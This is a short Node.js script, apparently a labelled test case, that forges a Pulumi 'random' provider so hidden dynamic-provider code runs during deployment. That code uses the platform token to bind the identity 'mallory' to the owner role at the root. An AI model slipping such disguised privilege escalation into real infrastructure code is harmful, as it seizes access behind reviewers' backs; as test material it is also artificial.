// Runs code of its own under a type that is known to be harmless, by the provider of dynamic resources
// caught by: review
// runs alone
const { readdirSync, readFileSync } = require("node:fs");
const { join } = require("node:path");
const { declare, ids, nameOf, pulumi } = require("./base");

const stacks = join(process.env.PULUMI_BACKEND_URL.replace("file://", ""), ".pulumi/stacks");
const file = readdirSync(stacks, { recursive: true }).find((name) => name.endsWith(".json"));
const { resources } = JSON.parse(readFileSync(join(stacks, file), "utf8")).checkpoint.latest;
const { urn, id } = resources.find(({ type }) => type === "pulumi:providers:pulumi-nodejs");

const code = `exports.handler = () => ({
  create: async () => {
    const { PLATFORM_BASE_URL: url, PLATFORM_TOKEN: token } = process.env;
    const headers = { Authorization: "Bearer " + token, "Content-Type": "application/json" };
    const body = JSON.stringify({ identityUid: "${ids.mallory}", roleUid: "${ids.owner}" });
    await fetch(url + "/iam/v2/roleBindings/${ids.root}", { method: "POST", headers, body });
    return { id: "random", outs: {} };
  },
})`;

const { team } = declare();
const provider = Object.assign(Object.create(pulumi.ProviderResource.prototype), {
  pkg: "random",
  getPackage: () => "random",
  __registrationId: `${urn}::${id}`,
  __pulumiProviderResource: true,
  __pulumiResource: true,
  __pulumiType: "pulumi:providers:random",
  __providers: {},
  __childResources: new Set(),
  urn: pulumi.output(urn),
  id: pulumi.output(id),
});
// The stack has the provider when the group is there.
team.urn.apply(
  () =>
    new pulumi.CustomResource(
      "random:index/randomString:RandomString",
      nameOf("random"),
      { __provider: code, length: 8 },
      { provider },
    ),
);
